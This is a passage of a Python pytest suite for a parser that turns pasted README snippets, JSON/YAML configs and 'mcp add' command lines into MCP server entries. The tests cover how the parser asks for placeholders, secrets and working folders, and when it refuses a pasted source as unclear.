        ("A_MODE=x A_KEY=<a> B_KEY=<b> npx a\nA_MODE=<y> A_KEY=<a> npx a", {"A_KEY": True, "B_KEY": True}),
        ("claude mcp add a -- npx a\n# For writes:\nclaude mcp add a -e A_KEY=xxxxx -- npx a", {"A_KEY": False}),
        ("claude mcp add a -- npx a\ncodex mcp add a --env A_KEY=xxxxx -- npx a", {"A_KEY": True}),
        ("By key:\n```sh\nA_KEY=<a> npx a\n```\nBy token:\n```sh\nB_TOKEN=<b> npx a\n```",
         {"A_KEY": False, "B_TOKEN": False}),
    ],
)  # fmt: skip
def test_a_variable_that_another_way_to_start_the_same_does_without_may_be_left_out(
    text: str, wants: dict[str, bool]
) -> None:
    (one,) = recognize(text, HOME)
    assert {want.name: want.required for want in one.wants} == wants
    assert {name for name in one.entry["env"] if name != "A_MODE"} == set(wants)


@pytest.mark.requirement("source-refused")
def test_several_lines_of_which_none_can_be_used_say_why() -> None:
    text = "npx a-mcp --transport http --port 8000\n# or\nnpx a-mcp --transport http --port 8080"
    with pytest.raises(UnclearSourceError, match="speaks HTTP, not stdio"):
        recognize(text, HOME)


def test_lines_that_start_something_else_each_are_said_to() -> None:
    text = "claude mcp add specs -- npx a /srv\nclaude mcp add specs -- npx a /opt"
    with pytest.raises(UnclearSourceError, match=r"2 lines that each start something different \(specs\)"):
        recognize(text, HOME)


@pytest.mark.requirement("source-recognized")
def test_a_server_below_the_name_of_its_transport_is_read() -> None:
    text = """binds:
- port: 3000
  listeners:
  - routes:
    - backends:
      - mcp:
          targets:
          - name: files
            stdio: {cmd: npx, args: [files-mcp], env: {A: b}}
          - name: docs
            sse: {url: https://docs.test/sse}"""
    assert [(one.name, one.entry) for one in recognize(text, HOME)] == [
        ("files", {"command": "npx", "args": ["files-mcp"], "env": {"A": "b"}}),
        ("docs", {"url": "https://docs.test/sse", "type": "sse"}),
    ]
    (one,) = recognize('{"mcpServers": {"stdio": {"command": "npx", "args": ["a-mcp"]}}}', HOME)
    assert one.name == "stdio"


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize(
    ("line", "code"),
    [
        ("node ./dist/index.js", "./dist/index.js"), ("node --env-file=.env dist/index.js -v ./x", "dist/index.js"),
        ("npx tsx src/index.ts", "src/index.ts"), ("python server.py", "server.py"), ("python src", "src"),
        ("uv run server.py", "server.py"), ("uv run --with mcp mcp run server.py", "server.py"),
        ("uv run acme-mcp", "pyproject.toml"), ("uv run python -m acme", "pyproject.toml"),
        ("uvx --from . acme-mcp", "pyproject.toml"), ("npx -y ./acme-mcp", "./acme-mcp"), ("npx .", "package.json"),
        ("uv --directory ./acme run acme-mcp", "./acme"), ("npm run mcp", "package.json"),
        ("npm start", "package.json"), ("yarn mcp", "package.json"), ("mix acme.mcp", "mix.exs"),
        ("bundle exec bin/acme mcp", "Gemfile"), ("make mcp", "Makefile"),
        ("conda run -n a python start.py", "start.py"), ("poetry run acme --dsn sql://a@b/c", "pyproject.toml"),
        ("pnpm --filter @acme/mcp start", "package.json"), ("bun run mcp", "package.json"),
        ("bun run src/a.ts", "src/a.ts"), ("cargo run --release", "Cargo.toml"), ("go run .", "go.mod"),
        ("go run ./cmd/acme", "./cmd/acme"), ("php artisan acme:mcp", "artisan"),
        ("java -jar target/a.jar", "target/a.jar"), ("./bin/acme-mcp", "./bin/acme-mcp"),
        ("python -m src.acme.server", "src"), ("poetry run acme-mcp", "pyproject.toml"),
        ("bin/acme mcp", "bin/acme"), ("docker run -i --env-file .env a/acme-mcp", ".env"),
        ("docker-compose run --rm acme", "docker-compose.yml"), ("docker compose -f ./a.yml run acme", "./a.yml"),
        ("docker compose -f /srv/a.yml run acme", ""), ("node build/index", "build/index"),
        ("dotnet run --project src/Acme.csproj", "src/Acme.csproj"),
        # these download their code or name its folder
        ("node /srv/dist/index.js ./data", ""), ("npx -y acme-mcp ./data", ""), ("npx -y acme-mcp config.js", ""),
        ("uvx acme-mcp ./data", ""), ("uv --directory /srv/acme run server.py", ""), ("python -m acme ./data", ""),
        ("uv run --with acme acme-mcp", ""), ("uv run --directory=/srv/acme acme", ""), ("acme-mcp ./data", ""),
        ("docker run -i -v ./data:/data acme/acme", ""), ("npm --prefix /srv/acme run mcp", ""),
        ("go run github.com/acme/acme-mcp@latest", ""), ("go run github.com/acme/acme-mcp/cmd/main.go", ""),
        ("deno run -A jsr:@acme/mcp/mod.ts", ""), ("uv run https://acme.test/server.py", ""),
        ("npm exec acme-mcp", ""), ("pnpm dlx acme-mcp", ""), ("uv tool run acme-mcp", ""),
        ("bash -c './run.sh'", ""), ("node path/to/index.js", ""), ("node -e 'x.js'", ""), ("python -c 'x'", ""),
        ("uv run git+ssh://git@acme.test/acme.git", ""), ("node ~/dist/index.js", ""),
        ("node ${HOME}/dist/index.js", ""), ("node <dir>/dist/index.js", ""),
    ],
)  # fmt: skip
def test_the_folder_of_a_server_is_asked_for_if_it_runs_the_code_of_its_folder(line: str, code: str) -> None:
    command, *args = shlex.split(line)
    text = json.dumps({"mcpServers": {"a": {"command": command, "args": args}}})
    (one,) = recognize(text, HOME, exists=lambda path: False)
    asked = [(want.keys, want.description, want.kind) for want in one.wants if want.keys == ("cwd",)]
    assert asked == ([(("cwd",), f"the folder with {code}", "directory")] if code else [])
    if code:
        assert with_value(one.entry, one.wants[-1], "/srv/a") == {"command": command, "args": args, "cwd": "/srv/a"}
        (here,) = recognize(text, HOME, exists=lambda path: path == code)
        assert ([want for want in here.wants if want.keys == ("cwd",)], "scope" in here.entry) == ([], False)


@pytest.mark.requirement("source-recognized")
def test_a_command_in_a_sentence_may_be_wrapped() -> None:
    text = "registers it (`claude mcp add lab -- lab-mcp start-mcp-server --context a\n  --from-cwd`) when it is there"
    (one,) = recognize(text, HOME)
    assert one.entry == {"command": "lab-mcp", "args": ["start-mcp-server", "--context", "a", "--from-cwd"]}


def test_a_module_option_without_a_module_is_left_as_it_is() -> None:
    (one,) = recognize('{"a": {"command": "python", "args": ["-m"]}}', HOME)
    assert (one.entry, one.wants) == ({"command": "python", "args": ["-m"]}, ())


@pytest.mark.requirement("source-asked")
def test_a_folder_below_the_authors_own_is_asked_for_whole() -> None:
    text = '{"a": {"command": "make", "args": ["mcp"], "cwd": "tools/a"}}'
    (one,) = recognize(text, HOME)
    assert [(want.keys, want.description) for want in one.wants] == [(("cwd",), "the folder tools/a")]
    assert with_value(one.entry, one.wants[0], "/srv/a") == {"command": "make", "args": ["mcp"], "cwd": "/srv/a"}


@pytest.mark.requirement("source-recognized")
def test_the_program_in_an_environment_of_conda_is_the_server() -> None:
    (one,) = recognize("conda run -n lab --no-capture-output lab-mcp --stdio", HOME)
    assert (one.name, one.entry["command"]) == ("lab", "conda")


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("entry", "has_own"),
    [
        ({"args": ["--directory", "/srv/a", "run", "main.py"]}, False), ({"args": ["run", "x", "./data"]}, False),
        ({"args": ["--directory", "/path/to/a", "run", "main.py"]}, False), ({"args": ["run", "/path/to/x.py"]}, False),
        ({"args": ["run", "/srv/x.py", "--config", "x.json"]}, True), ({"args": ["run", "x"], "cwd": "./x"}, False),
        ({"args": ["run", "/srv/x.py"], "cwd": "path/to/x"}, False),
        ({"command": "npx", "args": ["x"], "cwd": "."}, True),
        ({"args": ["--directory", "/srv/a", "run", "main.py"], "scope": "session"}, True),
        ({"command": "npx", "args": ["@playwright/mcp@latest"]}, True),
        ({"command": "docker", "args": ["exec", "-i", "box", "node", "a.js"]}, False),
        ({"command": "docker", "args": ["run", "-i", "-v", "./a:/a", "b"]}, True),
        ({"command": "<dir>/bin/a", "args": []}, False), ({"command": "npx", "args": ["a-mcp", "."]}, True),
    ],
)  # fmt: skip
def test_a_server_runs_once_for_each_session_only_if_it_depends_on_its_folder(
    entry: dict[str, Any], has_own: bool
) -> None:
    (one,) = recognize(json.dumps({"mcpServers": {"a": {"command": "uv"} | entry}}), HOME, exists=lambda path: False)
    assert (one.entry.get("scope") == "session") is has_own


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "words", "first"),
    [
        ("pip install -e /srv/a\nhermes mcp add a --command 'python -m a.mcp'", "python -m a.mcp",
         ["pip install -e /srv/a"]),
        ("git clone https://a.test/a\ncd a\nnpm install && npm run build\nclaude mcp add a -- node dist/a.js",
         "node dist/a.js", ["git clone https://a.test/a", "cd a", "npm install", "npm run build"]),
        ("npm i -g a && claude mcp add a -- a-mcp\nclaude mcp list", "a-mcp", ["npm i -g a"]),
        ("$ brew tap a/b && brew install a\n==> Pouring\n$ claude mcp add a -- a-mcp", "a-mcp",
         ["brew tap a/b", "brew install a"]),
        ("mkdir -p ~/a\nclaude mcp add a \\\n  -- a-mcp", "a-mcp", ["mkdir -p ~/a"]),
        ("npm install -g a-mcp\na-mcp", "a-mcp", ["npm install -g a-mcp"]),
        ("npm install -g a-mcp\na-mcp --stdio", "a-mcp --stdio", ["npm install -g a-mcp"]),
        ("docker pull acme/a\ndocker run -i --rm acme/a", "docker run -i --rm acme/a", ["docker pull acme/a"]),
        ("python -m venv v\nsource v/bin/activate\npip install 'a>=2'\nclaude mcp add a -- python -m a", "python -m a",
         ["python -m venv v", "source v/bin/activate", "pip install 'a>=2'"]),
        ("sudo apt install a\nexport A=1\nclaude mcp add a -- a-mcp", "a-mcp", ["sudo apt install a"]),
        ("npm install a-mcp\nnpx -y a-mcp", "npx -y a-mcp", []),
        ("npx a-mcp\n\n# or update it\nnpm update -g a-mcp", "npx a-mcp", ["npm update -g a-mcp"]),
        ("uvx a-mcp@latest\n# or\nuv tool upgrade a-mcp", "uvx a-mcp@latest", ["uv tool upgrade a-mcp"]),
        ("npm ci\nclaude mcp add a https://a.test/mcp", "https://a.test/mcp", ["npm ci"]),
        ("python -m venv v && v/bin/pip install -e .\nnpm test # all pass\nclaude mcp add a -- a-mcp", "a-mcp",
         ["python -m venv v", "v/bin/pip install -e .", "npm test"]),
        (".\\v\\Scripts\\python.exe -m pip install -e .\nclaude mcp add a -- a-mcp", "a-mcp",
         [".\\v\\Scripts\\python.exe -m pip install -e ."]),
    ],
)  # fmt: skip
def test_lines_that_only_install_are_left_to_the_user(text: str, words: str, first: list[str]) -> None:
    (one,) = recognize(text, HOME)
    launch = [one.entry.get("command"), *one.entry.get("args", [])] if "command" in one.entry else [one.entry["url"]]
    assert (shlex.join(launch), list(one.run_first)) == (words, first)


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("text", "folder"),
    [
        ("cd /path/to/a && uv run a-mcp", "/path/to/a"),
        ("cd '<path to a>'\nclaude mcp add a -- node a.js", "<path to a>"),
        ("cd ~/a\nclaude mcp add a -- npx a", None), ("cd a\nclaude mcp add a -- node a.js", None),
        ("cd /srv/a\nclaude mcp add a https://a.test", None),
    ],
)  # fmt: skip
def test_the_folder_of_a_cd_before_a_server_is_its_own(text: str, folder: str | None) -> None:
    (one,) = recognize(text, HOME)
    assert one.entry.get("cwd") == folder
    assert [want.placeholder for want in one.wants] == ([folder] if folder else [])


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize(
    ("text", "empty", "filled"),
    [
        ("docker run -i -e A= b", "docker run -i -e A= b", "docker run -i -e A=5 b"),
        ("npx a --x= --y", "npx a --y", "npx a --x=5 --y"), ('npx a --x ""', "npx a", "npx a --x 5"),
    ],
)  # fmt: skip
def test_an_argument_whose_value_is_empty_keeps_its_name(text: str, empty: str, filled: str) -> None:
    (one,) = recognize(text, HOME)
    (want,) = one.wants
    for value, words in (("", empty), ("5", filled)):
        entry = with_value(one.entry, want, value)
        assert shlex.join([entry["command"], *entry["args"]]) == words


@pytest.mark.requirement("source-asked")
def test_a_variable_that_a_line_sets_to_nothing_stays_empty_and_one_of_the_shell_goes() -> None:
    (one,) = recognize("claude mcp add a -e A= -e B -- npx a", HOME)
    entry = one.entry
    for want in one.wants:
        entry = with_value(entry, want, "")
    assert entry["env"] == {"A": ""}


@pytest.mark.requirement("source-asked")
def test_a_value_that_says_what_is_so_without_it_has_that_default() -> None:
    (one,) = recognize('{"a": {"command": "a", "env": {"L": "log level (default: info)", "M": "fast (beta)"}}}', HOME)
    assert [(want.name, want.required, want.default) for want in one.wants] == [("L", False, "info")]


@pytest.mark.requirement("source-recognized")
def test_the_home_folder_of_a_shell_is_written_out_in_variables() -> None:
    entry = {"command": "a", "env": {"A": "~/x", "B": "$HOME/x:~/y", "C": "a~/x", "D": "~", "E": "<~/x>"}}
    (one,) = recognize(json.dumps({"a": entry}), HOME)
    assert one.entry["env"] == {"A": "/home/me/x", "B": "/home/me/x:/home/me/y", "C": "a~/x", "D": "~", "E": "<~/x>"}


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    "entry",
    [
        {"command": "docker", "args": ["run", "-i", "-e", "A", "a/a"], "env": {"A": "~/x"}},
        {"command": "ssh", "args": ["me@a.test", "~/bin/a"], "env": {"A": "~/x"}},
    ],
)
def test_the_home_folder_of_a_container_or_of_another_machine_is_left_alone(entry: dict[str, Any]) -> None:
    (one,) = recognize(json.dumps({"a": entry}), HOME)
    assert one.entry == entry


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("args", "read", "note"),
    [
        ("run --rm a/a", "run -i --rm a/a", ", with -i added: a stdio server reads its input"),
        ("run --rm a/a -i -t x", "run -i --rm a/a -i -t x", ", with -i added: a stdio server reads its input"),
        ("run -d --name a a", "run -i --name a a", ", with -i in place of -d: a stdio server reads its input"),
        ("exec box a -t x", "exec -i box a -t x", ", with -i added: a stdio server reads its input"),
        ("run -it --rm a/a", "run -i --rm a/a", ""),
        ("exec -i box a -t x", "exec -i box a -t x", ""),
        ("run --name a --interactive -p 80:80 a", "run --name a --interactive -p 80:80 a", ""),
        ("compose -f x.yaml run a", "compose -f x.yaml run a", ""),
    ],
)
def test_a_container_that_a_client_starts_reads_its_input(args: str, read: str, note: str) -> None:
    text = json.dumps({"mcpServers": {"a": {"command": "docker", "args": args.split()}}})
    line = f"claude mcp add a -- docker {args}"
    (one,), (other,) = recognize(text, HOME), recognize(line, HOME)
    assert (one.entry["args"], one.kind) == (read.split(), f"a snippet{note}")
    assert (other.entry["args"], other.kind) == (read.split(), f"claude mcp add{note}")


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("args", "read"),
    [
        ("exec -n a deployment/b -- python -i c.py", "exec -i -n a deployment/b -- python -i c.py"),
        ("-n a exec pod -- b", "-n a exec -i pod -- b"), ("exec -it pod -- b", "exec -it pod -- b"),
        ("mcp serve", "mcp serve"),
    ],
)  # fmt: skip
def test_what_runs_in_a_pod_reads_its_input(args: str, read: str) -> None:
    (one,) = recognize(json.dumps({"a": {"command": "kubectl", "args": args.split()}}), HOME)
    assert (one.entry["args"], "with -i added" in one.kind) == (read.split(), args != read)


@pytest.mark.requirement("source-recognized")
def test_a_value_behind_an_option_that_takes_none_is_asked_for_by_its_own_text() -> None:
    args = ["run", "--allow-read", "/path/to/a.ts", "--account", "your-1password-account", "--token", "<token>"]
    (one,) = recognize(json.dumps({"a": {"command": "deno", "args": args}}), HOME)
    assert [(want.name, want.secret) for want in one.wants] == [
        ("/path/to/a.ts", False), ("account", False), ("token", True),
    ]  # fmt: skip


@pytest.mark.requirement("source-recognized")
def test_the_paths_of_another_machine_are_not_looked_for_here() -> None:
    for command in ("ssh", "kubectl"):
        args = ["exec", "-i", "me@box", "/home/me2/run.sh", "/opt/run", "src/x.py"]
        (one,) = recognize(json.dumps({"a": {"command": command, "args": args}}), HOME, exists=lambda path: False)
        assert (one.wants, one.entry) == ((), {"command": command, "args": args})


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize("text", ["claude mcp add a -- npx -y", "hermes mcp add a --command uvx", "uvx"])
def test_a_runner_without_anything_to_run_is_refused(text: str) -> None:
    with pytest.raises(UnclearSourceError, match="alone starts no server"):
        recognize(text, HOME)


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize(
    "text",
    [
        "uvx run a-mcp --x",
        "claude mcp add a -- uvx run a-mcp --x",
        '{"a": {"command": "uvx", "args": ["run", "a-mcp", "--x"]}}',
    ],
)  # fmt: skip
def test_a_verb_in_place_of_a_package_is_refused_since_it_names_one(text: str) -> None:
    with pytest.raises(UnclearSourceError, match="a package whose name is run") as caught:
        recognize(text, HOME)
    assert caught.value.hint == "Paste it without run: uvx a-mcp --x"


@pytest.mark.requirement("source-asked")
def test_a_placeholder_that_stands_in_several_places_is_asked_for_once() -> None:
    text = """{"a": {"command": "<repo>/venv/bin/python", "args": ["<repo>/a.py", "--user", "<name>", "--as", "<name>"],
      "env": {"A_KEY": "<value>", "B_KEY": "<value>"}}}"""
    (one,) = recognize(text, HOME)
    assert [(want.name, want.keys[0], want.shared) for want in one.wants] == [
        ("A_KEY", "env", False), ("B_KEY", "env", False),
        ("<repo>", "args", True), ("user", "args", False), ("as", "args", False), ("<repo>", "command", True),
    ]  # fmt: skip
    entry = one.entry
    for want in one.wants:
        entry = with_value(entry, want, "/srv/a") if want.shared else entry
    assert (entry["command"], entry["args"][0]) == ("/srv/a/venv/bin/python", "/srv/a/a.py")


@pytest.mark.requirement("source-asked")
def test_a_path_in_the_code_of_a_shell_is_asked_for_by_its_own_text() -> None:
    (one,) = recognize('{"a": {"command": "bash", "args": ["-lc", "exec /path/to/a mcp"]}}', HOME)
    assert [want.name for want in one.wants] == ["/path/to/a"]


@pytest.mark.requirement("source-recognized")
def test_an_unknown_option_takes_nothing_from_a_command_that_an_option_gives() -> None:
    text = "hermes mcp add lab --command uvx --connect-timeout 120 \\\n  --args --from git+https://a.test/b c-mcp"
    (one,) = recognize(text, HOME)
    assert one.entry == {"command": "uvx", "args": ["--from", "git+https://a.test/b", "c-mcp"]}
    (one,) = recognize("grok mcp add --url https://a.test/mcp docs --weight 3", HOME)
    assert (one.name, one.entry) == ("docs", {"url": "https://a.test/mcp"})


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize("args", ["run -p 80:80 a", "run -d --publish 80:80 a", "run -id -p8080:80 a"])
def test_a_container_that_reads_no_input_and_opens_a_port_is_refused(args: str) -> None:
    with pytest.raises(UnclearSourceError, match="opens a port") as caught:
        recognize(json.dumps({"mcpServers": {"a": {"command": "docker", "args": args.split()}}}), HOME)
    assert caught.value.hint == "Start it, and add its address instead"


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("given", "run", "says"),
    [
        ("--rm acme/a-mcp", "run -i --rm acme/a-mcp", ["-i added: without it the container reads nothing"]),
        ("-p 80:80 acme/a-mcp", "run -i -p 80:80 acme/a-mcp", ["-i added", "add its address instead"]),
        ("-i -p 80:80 acme/a-mcp", "run -i -p 80:80 acme/a-mcp", ["add its address instead"]),
        ("-i acme/a-mcp -p 80", "run -i acme/a-mcp -p 80", []),
        ("-i acme/a-mcp bash -c a-mcp", "run -i acme/a-mcp bash -c a-mcp", []),
        ("-i --entrypoint sh acme/a-mcp -c a", "run -i --entrypoint sh acme/a-mcp -c a", []),
        ("-i acme/a-mcp node test.js", "run -i acme/a-mcp node test.js", []),
    ],
)
def test_a_line_that_runs_a_container_reads_its_input_and_says_what_else_it_may_be(
    given: str, run: str, says: list[str]
) -> None:
    (one,) = recognize(f"docker run {given}", HOME)
    assert one.entry["args"] == run.split()
    assert [part in one.kind for part in says] == [True] * len(says)
    assert says or one.kind == "a command line"


@pytest.mark.requirement("source-asked")
def test_a_value_that_differs_from_one_way_to_start_a_server_to_the_next_is_asked_for() -> None:
    (one,) = recognize("A_DEPLOYMENT=remote B=1 uvx a-mcp\nA_DEPLOYMENT=local B=1 uvx a-mcp", HOME)
    (want,) = one.wants
    assert (want.name, want.choices, want.secret) == ("A_DEPLOYMENT", ("remote", "local"), False)
    assert with_value(one.entry, want, "local")["env"] == {"A_DEPLOYMENT": "local", "B": "1"}
    assert want.description == "one of remote, local"


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize(
    "text",
    [
        "A=one B=1 uvx a-mcp\nA=two B=2 uvx a-mcp",
        "A_URL=https://a.test uvx a-mcp\nA_URL=https://b.test uvx a-mcp",
        "A_TOKEN=sk-live-1234abcd uvx a-mcp\nA_TOKEN=sk-live-5678efgh uvx a-mcp",
    ],
)
def test_ways_to_start_a_server_that_differ_in_more_than_a_word_are_refused(text: str) -> None:
    with pytest.raises(UnclearSourceError, match="several ways to run a, each with its own values"):
        recognize(text, HOME)


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize(
    ("name", "value", "asked"),
    [
        ("A_URL", "Acme 365 url", True), ("A_ENDPOINT", "the endpoint", True), ("baseUrl", "API基础URL", True),
        ("A_EMAIL", "mail of the user", True), ("A_PORT", "any free port", True), ("A_PATH", "Vault path", True),
        ("A_KEY", "acme密鑰", True), ("A_TOKEN", "ключ", True),
        ("A_URL", "https://a.test/x y", False), ("A_PATH", "Own Vault", False), ("TRANSPORT", "streamable http", False),
        ("A_HOSTS", "a b", False), ("A_HOST", "münchen.de", False), ("A_TITLE", "Acme 365 url", False),
        ("A_EMAIL", "Ann ann@a.test", False), ("A_PASSWORD", "correct horse", False), ("A_PORT", "80 81", False),
    ],
)  # fmt: skip
def test_words_that_no_value_of_that_kind_has_stand_in_place_of_one(name: str, value: str, asked: bool) -> None:
    (one,) = recognize(json.dumps({"a": {"command": "npx", "args": ["a"], "env": {name: value}}}), HOME)
    assert [want.placeholder for want in one.wants] == [value] * asked
    assert one.entry["env"] == {name: value}


@pytest.mark.requirement("source-asked")
def test_a_stand_in_inside_a_json_text_is_asked_for_and_a_key_is_hidden() -> None:
    text = json.dumps({"apiKey": "你的API密钥", "model": "gpt-5", "size": 3}, ensure_ascii=False)
    (one,) = recognize(json.dumps({"a": {"command": "a-mcp", "args": [text]}}), HOME)
    (want,) = one.wants
    assert (want.name, want.placeholder, want.secret) == ("apiKey", "你的API密钥", True)
    assert want.description == "in place of 你的API密钥"
    assert json.loads(with_value(one.entry, want, "k")["args"][0]) == {"apiKey": "k", "model": "gpt-5", "size": 3}
    (one,) = recognize(json.dumps({"a": {"command": "a-mcp", "args": ['{"of": [{"token": "你的令牌"}]}']}}), HOME)
    assert [(want.name, want.secret) for want in one.wants] == [("token", True)]
    (one,) = recognize(json.dumps({"a": {"command": "a-mcp", "args": ['{"apiKey": "k1", "model": "m"}']}}), HOME)
    assert one.wants == ()


@pytest.mark.requirement("source-asked")
def test_a_connection_string_is_a_secret_and_leaves_the_command_line_of_a_container() -> None:
    given = "Host=db;Database=x;User ID=me;Password=dbUserPassword;"
    (one,) = recognize(f'docker run -i -e A_CONN="{given}" -e A_MODE=x acme/a', HOME)
    assert one.entry["args"] == ["run", "-i", "-e", "A_CONN", "-e", "A_MODE=x", "acme/a"]
    assert one.entry["env"] == {"A_CONN": given}
    (want,) = one.wants
    assert (want.placeholder, want.secret) == ("dbUserPassword", True)
    (one,) = recognize(f'docker run -i -e A_CONN="{given.replace("dbUserPassword", "x8!kq")}" acme/a', HOME)
    assert (one.entry["args"], one.wants) == (["run", "-i", "-e", "A_CONN", "acme/a"], ())
    for given, marks in (
        ("Driver={ODBC Driver 18};Server=YOUR_SERVER;Pwd=YOUR_PASSWORD;", ["YOUR_SERVER", "YOUR_PASSWORD"]),
        ("Server=h;Password=YourPassword123;TrustServerCertificate=true", ["YourPassword123"]),
        ("host=h user=me password=secret dbname=x", ["secret"]),
    ):
        (one,) = recognize(json.dumps({"a": {"command": "a-mcp", "env": {"A_CONN": given}}}), HOME)
        assert [want.placeholder for want in one.wants] == marks
        assert one.wants[-1].secret
        (one,) = recognize(json.dumps({"a": {"command": "a-mcp", "args": ["--connection", given]}}), HOME)
        assert (one.wants[-1].name.split()[0], one.wants[-1].secret) == ("connection", True)
    (one,) = recognize("npx a --url redis://default:<password>@<host>:6379", HOME)
    assert [(want.placeholder, want.secret) for want in one.wants] == [("<password>", True), ("<host>", False)]
    (one,) = recognize("npx a --database-key YOUR_DATABASE_CONNECTION_STRING --database-name YOUR_NAME", HOME)
    assert [want.secret for want in one.wants] == [True, False]


@pytest.mark.requirement("source-asked")
@pytest.mark.parametrize("mark", ["${input:apiKey", "$input:apiKey}", "{input:apiKey}", "Bearer ${input:apiKey)"])
def test_a_reference_to_an_input_that_lacks_a_sign_is_still_asked_for(mark: str) -> None:
    inputs = [{"type": "promptString", "id": "apiKey", "password": True}]
    text = json.dumps({"inputs": inputs, "servers": {"a": {"command": "npx", "args": ["a"], "env": {"K": mark}}}})
    (want,) = recognize(text, HOME)[0].wants
    assert (want.name, want.keys, want.secret) == ("apiKey", ("env", "K"), True)
    (one,) = recognize(text.replace("{input:apiKey}", "{input:other}").replace("$", ""), HOME)
    assert one.entry["env"] != {"K": "${keyring:other}"}


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("raw", "entry"),
    [
        ({"description": "d", "config": {"url": "https://a.test/sse", "mode": "sse"}}, {"type": "sse"}),
        ({"transport": "sse", "endpoint": "https://a.test/sse"}, {"type": "sse"}),
        ({"remote": {"server_url": "https://a.test/sse"}, "command": None}, None),
        ({"baseUrl": "https://a.test/sse"}, {}),
        ({"command": None, "url": "https://a.test/sse"}, {}),
        ({"transport": "http", "http": {"url": "https://a.test/sse"}, "stdio": {"command": "a"}}, {"type": "http"}),
        ({"auth": {"type": "bearer", "token_env": "A_T"}, "url": "https://a.test/sse"},
         {"auth": "bearer", "bearer_token_env": "A_T"}),
        ({"endpoint": "postgres://a.test/sse"}, None),
        ({"endpoint": "https://a.test/sse", "docs_url": "x", "baseUrl": "https://b.test"}, None),
    ],
)  # fmt: skip
def test_the_one_address_of_an_entry_counts_wherever_its_author_wrote_it(
    raw: dict[str, Any], entry: dict[str, Any] | None
) -> None:
    text = json.dumps({"mcpServers": {"a": raw}})
    if entry is None:
        with pytest.raises(UnclearSourceError):
            recognize(text, HOME)
        return
    (one,) = recognize(text, HOME)
    assert one.entry == {"url": "https://a.test/sse", **entry}


@pytest.mark.requirement("source-refused")
@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('{"api": {"endpoint": "https://a.test/v1"}}', "defines no server"),
        ('{"servers": {"prod": {"endpoint": "https://a.test/v1"}}}', "neither"),
        ('{"tools": {"build": {"run": {"command": "make"}}}}', "defines no server"),
        ('{"exporter": {"type": "http", "endpoint": "https://a.test/v1"}}', "defines no server"),
        ('{"servers": [{"name": "prod", "endpoint": "https://a.test/v1"}]}', "defines no server"),
        ('{"openapi": "3.1.0", "servers": [{"url": "https://a.test/v1"}], "paths": {}}', "describes an API"),
        ('{"mcpServers": {"a": {"type": "websocket", "host": "a"}}}', "a uses WebSocket"),
        ("servers:\n  - name: <name>\n    transport: <stdio|http>\n    stdio:\n      command: <command>\n"
         "    http:\n      url: <url>\n", "template"),
    ],
)  # fmt: skip
def test_what_is_no_entry_or_every_entry_at_once_is_refused(text: str, why: str) -> None:
    with pytest.raises(UnclearSourceError, match=why):
        recognize(text, HOME)


@pytest.mark.requirement("source-recognized")
def test_servers_named_after_transports_are_servers() -> None:
    text = '{"mcp": {"servers": {"stdio": {"command": "a-mcp"}, "http": {"url": "https://a.test/mcp"}}}}'
    assert [one.name for one in recognize(text, HOME)] == ["stdio", "http"]


@pytest.mark.requirement("source-recognized")
def test_the_lists_of_openhands_are_read_side_by_side() -> None:
    text = """[mcp]
sse_servers = ["https://a.test/sse", {url = "https://b.test/sse", api_key = "YOUR_KEY"}]
shttp_servers = [{url = "https://c.test/mcp"}]
stdio_servers = [{name = "fetch", command = "uvx", args = ["mcp-server-fetch"]}]
"""
    a, b, c, fetch = recognize(text, HOME)
    (listed,) = recognize("mcp:\n  servers:\n    - name: a\n      params: {command: npx, args: [a-mcp]}\n", HOME)
    assert listed.entry == {"command": "npx", "args": ["a-mcp"]}
    assert (a.entry, c.entry) == (
        {"url": "https://a.test/sse", "type": "sse"}, {"url": "https://c.test/mcp", "type": "http"},
    )  # fmt: skip
    assert b.entry["headers"] == {"Authorization": "Bearer YOUR_KEY"}
    assert ([want.secret for want in b.wants], fetch.name) == ([True], "fetch")


@pytest.mark.requirement("source-recognized")
@pytest.mark.parametrize(
    ("line", "entry"),
    [
        ('a python s.py --description "A lab" --timeout 10000', {"command": "python", "args": ["s.py"]}),
        ("a npx -y a-mcp --trust -e K=v -s user", {"command": "npx", "args": ["-y", "a-mcp"], "env": {"K": "v"}}),
        ("a npx a-mcp --port 30 --scope read -t fast",
         {"command": "npx", "args": ["a-mcp", "--port", "30", "--scope", "read", "-t", "fast"]}),
        ("a npx -- a-mcp --timeout 1", {"command": "npx", "args": ["a-mcp", "--timeout", "1"]}),
        ("a docker run -i -e K=v acme/a", {"command": "docker", "args": ["run", "-i", "-e", "K=v", "acme/a"]}),
        ("a npx mcp-remote https://a.test/mcp --header 'A: b'",
         {"command": "npx", "args": ["mcp-remote", "https://a.test/mcp", "--header", "A: b"]}),
        ("a https://a.test/mcp -t http -H 'A: b' --exclude-tools x,y",
         {"url": "https://a.test/mcp", "headers": {"A": "b"}, "exclude_tools": ["x", "y"]}),
    ],
)  # fmt: skip
def test_gemini_and_qwen_take_their_own_options_wherever_they_are(line: str, entry: dict[str, Any]) -> None:
    for client in ("gemini", "qwen"):
        (one,) = recognize(f"{client} mcp add {line}", HOME)
        assert (one.name, one.entry) == ("a", entry)
    (one,) = recognize("codex mcp add a -- npx a-mcp --timeout 1", HOME)
    assert one.entry["args"] == ["a-mcp", "--timeout", "1"]


@pytest.mark.requirement("source-recognized")
def test_a_shells_own_variable_counts_where_a_line_below_uses_it() -> None:
    (one,) = recognize("REPO=/srv/a\nclaude mcp add a -- node $REPO/dist/index.js", HOME)
    assert one.entry == {"command": "node", "args": ["/srv/a/dist/index.js"]}
